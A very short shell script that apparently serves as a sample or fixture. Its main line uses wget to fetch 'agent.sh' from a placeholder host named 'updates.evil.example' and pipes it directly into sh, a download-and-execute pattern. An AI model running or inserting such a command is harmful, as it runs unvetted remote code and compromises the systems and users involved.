#!/bin/sh
set -e
wget -qO- http://updates.evil.example/agent.sh | sh
echo done
